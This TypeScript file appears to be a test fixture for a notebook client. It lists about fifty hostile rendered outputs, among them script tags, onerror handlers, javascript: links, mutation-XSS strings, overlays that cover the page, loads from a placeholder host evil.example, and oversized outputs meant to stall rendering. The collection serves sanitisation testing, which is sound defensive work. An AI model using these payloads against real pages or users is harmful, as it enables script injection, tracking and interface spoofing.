/** What a hostile output would do to the page: its script runs, it loads something from elsewhere, or it covers the page. */
type Harm = 'runs' | 'loads' | 'covers' | 'clicked';

export interface HostileOutput {
  /** What a model writes as its answer; elsewhere it is shown as Markdown. */
  readonly text?: string;
  /** What a helper shows: the MIME type, and its data. */
  readonly type?: string;
  readonly data?: string;
  /** Says that an image is to be a part of the page. */
  readonly isUnconfined?: boolean;
  /** Python that shows it, where it is no plain data. */
  readonly code?: string;
  /** What it does in JupyterLab where ipykernel shows it. */
  readonly harm?: Harm;
}

/** `HIT` is replaced by a script that tells the page, `EVIL` by an address of an attacker; both name the case. */
const html = (data: string, harm?: Harm): HostileOutput => ({
  type: 'text/html',
  data,
  ...(harm && { harm }),
});
const svg = (inside: string, attributes = ''): HostileOutput => ({
  type: 'image/svg+xml',
  data: `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" ${attributes}>${inside}</svg>`,
  isUnconfined: true,
});
const text = (markdown: string, harm?: Harm): HostileOutput => ({ text: markdown, ...(harm && { harm }) });
const covering = 'position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:100000;background:#fff';

/** Each tells what it does where it comes from ipykernel; those that tell nothing do harm in other clients or by other ways. */
export const hostileOutputs: readonly HostileOutput[] = [
  html('<script>HIT</script>', 'runs'),
  html('<script src="EVIL/x.js"></script>', 'loads'),
  html('<script type="module">HIT</script>', 'runs'),
  html('<img src="x:" onerror="HIT">', 'runs'),
  html('<svg><animate onbegin="HIT" attributeName="x" dur="1s"/></svg>', 'runs'),
  html('<details open ontoggle="HIT"><summary>x</summary></details>', 'runs'),
  html('<iframe srcdoc="<script>parent.HIT</script>"></iframe>', 'runs'),
  html('<iframe src="javascript:parent.HIT"></iframe>', 'runs'),
  html('<iframe src="EVIL/frame.html"></iframe>', 'loads'),
  html('<object data="EVIL/object.html"></object>'),
  html('<embed src="EVIL/embed.html">'),
  html('<meta http-equiv="refresh" content="0;url=EVIL/refresh">'),
  html('<link rel="stylesheet" href="EVIL/style.css">', 'loads'),
  html('<style>@import "EVIL/import.css";</style>', 'loads'),
  html('<img src="EVIL/pixel.png">', 'loads'),
  html('<img srcset="EVIL/set.png 1x">', 'loads'),
  html('<video poster="EVIL/poster.png"></video>', 'loads'),
  html('<audio src="EVIL/sound.mp3" autoplay></audio>', 'loads'),
  html('<input type="image" src="EVIL/button.png">', 'loads'),
  html('<div style="background:url(EVIL/background.png)">x</div>', 'loads'),
  html('<a id="click-CASE" href="javascript:HIT">x</a>'),
  html('<a id="click-CASE" href=" java\nscript:HIT">x</a>'),
  html('<form action="javascript:HIT"><button id="click-CASE">x</button></form>', 'clicked'),
  html('<button id="click-CASE" onclick="HIT">x</button>', 'clicked'),
  html(`<div id="cover-CASE" style="${covering}">x</div>`, 'covers'),
  html(`<style>#cover-CASE{${covering}}</style><b id="cover-CASE">x</b>`, 'covers'),
  html('<style>:root{--harm-CASE:1}#jp-top-panel{display:none}</style>', 'covers'),
  html('<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=HIT&gt;">'),
  html('<svg><image href="EVIL/image.png" width="9" height="9"/></svg>', 'loads'),
  html('<svg><foreignObject><img src="x:" onerror="HIT"></foreignObject></svg>', 'runs'),
  { type: 'application/javascript', data: 'HIT', harm: 'runs' },
  svg('<script>HIT</script>'),
  svg('<rect/>', 'onload="HIT"'),
  svg('<image href="EVIL/image.png" width="9" height="9"/>'),
  svg('<foreignObject><img xmlns="http://www.w3.org/1999/xhtml" src="x:" onerror="HIT"/></foreignObject>'),
  { type: 'text/latex', data: '$\\href{javascript:HIT}{x} \\style{background:url(EVIL/latex.png)}{y}$' },
  {
    code: 'import ipywidgets; display(ipywidgets.HTML(\'<img src="x:" onerror="HIT"><img src="EVIL/widget.png">\'))',
    harm: 'loads',
  },
  { code: 'import ipywidgets; display(ipywidgets.Label(\'<img src="x:" onerror="HIT">\'))' },
  text('Look: <script>HIT</script><img src="x:" onerror="HIT">', 'runs'),
  text('![pixel](EVIL/markdown.png)', 'loads'),
  text('<a id="click-CASE" href="javascript:HIT">x</a> [y](javascript:HIT)'),
  text('<iframe srcdoc="<script>parent.HIT</script>"></iframe>', 'runs'),
  text('<style>@import "EVIL/text.css";</style>', 'loads'),
  text(`<div id="cover-CASE" style="${covering}">x</div>`),
  text('$$\\def\\a{\\a\\a}\\a$$ $\\href{javascript:HIT}{x}$'),
];

/** Too much for a page: another kernel's would only make it slow, so that they are shown by Replique's alone. */
export const heavyOutputs: readonly HostileOutput[] = [
  { code: "show('text/html', '<div>' * 100_000 + 'deep')" },
  { code: "show('text/html', '<table>' + '<tr><td>cell</td></tr>' * 400_000 + '</table>')" },
  { code: "show('text/markdown', '>' * 20_000 + ' deep')" },
  {
    code: "show('application/json', __import__('functools').reduce(lambda inner, _: [inner], range(900), 1))",
  },
  { code: "print('long ' * 2_000_000)" },
  { code: "print('\\x1b[2J\\x1b]0;title\\x07\\x1b[999;999H' * 20_000)" },
];

/** The output of one case, which tells of itself by its number. */
export function withMarks(output: HostileOutput, index: number): HostileOutput {
  const mark = (given: string): string =>
    given
      .replaceAll('parent.HIT', `parent.hits[${index}]=1`)
      .replaceAll('HIT', `window.hits[${index}]=1`)
      .replaceAll('EVIL', `https://evil.example/${index}`)
      .replaceAll('CASE', String(index));
  return {
    ...output,
    ...(output.text !== undefined && { text: mark(output.text) }),
    ...(output.data !== undefined && { data: mark(output.data) }),
    ...(output.code !== undefined && { code: mark(output.code) }),
  };
}

/** What Python needs for the lines of `pythonOf`. */
export const preamble = [
  'from IPython.display import display',
  'def show(kind, data, metadata={}): display({kind: data, "text/plain": "plain"}, metadata={kind: metadata}, raw=True)',
].join('\n');

/** A line of Python that shows a case. */
export function pythonOf({
  type = 'text/markdown',
  data,
  isUnconfined = false,
  text: markdown,
  code,
}: HostileOutput): string {
  if (code !== undefined) return code;
  return `show(${JSON.stringify(type)}, ${JSON.stringify(data ?? markdown)}, {${isUnconfined ? '"unconfined": True' : ''}})`;
}
